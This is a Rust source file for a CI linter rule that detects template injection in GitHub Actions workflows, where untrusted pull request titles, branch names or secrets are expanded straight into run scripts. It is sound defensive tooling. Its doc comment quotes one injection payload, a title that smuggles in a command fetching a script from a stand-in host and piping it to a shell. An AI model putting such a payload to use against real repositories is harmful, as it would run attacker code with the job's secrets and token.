//! ## What it does
//! Reports `${{ … }}` inside `run:` scripts and `actions/github-script` scripts
//! when the value can be chosen by someone outside the repository — pull
//! request, issue, review and comment titles and bodies, fork branch names
//! (`github.head_ref`, `pull_request.head.ref`, `workflow_run.head_branch`),
//! commit messages and author names, and `env` variables holding any of these
//! — or is a secret (`secrets.*`, `github.token`). Values the workflow fixes
//! itself or that only people with write access set (`github.sha`, numbers
//! and URLs of the event, `workflow_dispatch` inputs, step outputs, literal
//! `env` values, matrix values) are not reported.
//!
//! ## Why is this bad
//! The expression is replaced by its text before the shell parses the script: a
//! title such as `"; curl evil.sh | sh; "` becomes code running with the job's
//! secrets and token. A secret pasted into the script lands in the script file
//! on the runner and breaks (or executes) on the first quote it contains.
//!
//! ## Example
//! ```yaml
//! - run: echo "${{ github.event.pull_request.title }}"
//! - run: echo "${{ secrets.KUBE_CONFIG }}" | base64 -d > ~/.kube/config
//! ```
//!
//! ## Use instead
//! ```yaml
//! - run: echo "$TITLE"
//!   env:
//!     TITLE: ${{ github.event.pull_request.title }}
//! - run: printf '%s' "$KUBE_CONFIG" | base64 -d > ~/.kube/config
//!   env:
//!     KUBE_CONFIG: ${{ secrets.KUBE_CONFIG }}
//! ```

use pipec_diagnostics::Severity;

use crate::facts::expr;
use crate::loc::{Loc, Part, YamlLoc};
use crate::rule::{Context, Findings, Group, Input, Rule};

pub static RULE: Rule = Rule {
    id: "PIPE203",
    name: "template-injection",
    summary: "no `${{ }}` expansion of untrusted values or secrets inside scripts",
    severity: Severity::Error,
    group: Group::Security,
    inputs: &[Input::GitHub],
    module: module_path!(),
    check: Some(check),
};

fn check(cx: &Context, out: &mut Findings) {
    for p in cx.pipelines() {
        for j in &p.jobs {
            for s in &j.scripts {
                let mut seen: Vec<&str> = Vec::new();
                for (_, text) in expr::expansions(&s.text) {
                    let nth = seen.iter().filter(|x| **x == text).count();
                    seen.push(text);
                    let Some(e) = expr::parse(text) else { continue };
                    let mut ctxs = Vec::new();
                    expr::contexts(&e, &mut ctxs);
                    let Some((ctx, danger)) = ctxs
                        .iter()
                        .find_map(|c| danger(c, &s.env, 0).map(|d| (c, d)))
                    else {
                        continue;
                    };
                    let at = match &s.loc {
                        Loc::Yaml(y) => Loc::Yaml(YamlLoc {
                            part: Part::Text {
                                needle: text.to_string(),
                                nth,
                            },
                            ..y.clone()
                        }),
                        other => other.clone(),
                    };
                    let lang = if s.javascript { "JavaScript" } else { "shell" };
                    let f = match danger {
                        Danger::Secret(name) => out.report(at, format!("secret `{name}` is pasted into the {lang} script's text")),
                        Danger::AllSecrets => out.report(at, format!("every secret is pasted into the {lang} script's text")),
                        Danger::Untrusted => out.report(at, format!("`{ctx}` is expanded into the {lang} script: whoever controls it can run code in this job")),
                    };
                    f.label("expanded before the script runs");
                    match ctx.strip_prefix("env.") {
                        // Already in `env:`: the script can read it as is.
                        Some(name) => f.help(format!("use the variable instead of the expansion: \"${name}\" in shell, process.env.{name} in JavaScript")),
                        None => f.help("pass it through `env:` and use the variable (\"$NAME\" in shell, process.env.NAME in JavaScript)"),
                    };
                }
            }
        }
    }
}

/// Whether an expression context is attacker-controlled (directly, or
/// through an `env` value holding one).
pub(crate) fn attacker_controlled(ctx: &str, env: &[(String, String)]) -> bool {
    matches!(danger(ctx, env, 0), Some(Danger::Untrusted))
}

enum Danger {
    Secret(String),
    AllSecrets,
    Untrusted,
}

/// Parts of event payloads that whoever opens an issue, comments, names a
/// branch or writes a commit controls: titles, bodies, messages, branch
/// names of forks, author names and e-mails. Everything else in an event
/// (numbers, hashes, URLs, the repository's own names, labels that only
/// triagers set) is not attacker-controlled.
const UNTRUSTED_LEAVES: &[&str] = &[
    "title",
    "body",
    "message",
    "head_ref",
    "head_branch",
    "display_title",
    "page_name",
    "email",
    "label",
];

/// Whether an event field (`github.event.…`) is attacker-controlled.
fn untrusted_event(rest: &str) -> bool {
    let parts: Vec<&str> = rest.split('.').collect();
    let leaf = parts.last().copied().unwrap_or(rest);
    if UNTRUSTED_LEAVES.contains(&leaf) {
        return true;
    }
    // `pull_request.head.ref`: the fork's branch name.
    if rest.ends_with("head.ref") {
        return true;
    }
    // The name of a commit's author or committer, or of a pusher.
    leaf == "name"
        && parts
            .iter()
            .any(|p| matches!(*p, "author" | "committer" | "pusher"))
}

fn danger(ctx: &str, env: &[(String, String)], depth: usize) -> Option<Danger> {
    if ctx == "secrets" {
        return Some(Danger::AllSecrets);
    }
    if let Some(name) = ctx.strip_prefix("secrets.") {
        return Some(Danger::Secret(name.to_string()));
    }
    if ctx == "github.token" {
        return Some(Danger::Secret("GITHUB_TOKEN".into()));
    }
    if ctx == "github.head_ref" {
        return Some(Danger::Untrusted);
    }
    // Inputs of a manual run or of a calling workflow come from people with
    // write access; step and job outputs are whatever the workflow computed.
    // Neither is reported: what is known to be attacker-controlled is.
    if let Some(rest) = ctx.strip_prefix("github.event.") {
        return (!rest.starts_with("inputs.") && untrusted_event(rest))
            .then_some(Danger::Untrusted);
    }
    if let Some(name) = ctx.strip_prefix("env.")
        && depth < 3
    {
        let value = env.iter().rev().find(|(k, _)| k == name).map(|(_, v)| v)?;
        for (_, text) in expr::expansions(value) {
            let mut ctxs = Vec::new();
            if let Some(e) = expr::parse(text) {
                expr::contexts(&e, &mut ctxs);
            }
            if let Some(d) = ctxs.iter().find_map(|c| danger(c, env, depth + 1)) {
                return Some(d);
            }
        }
    }
    None
}
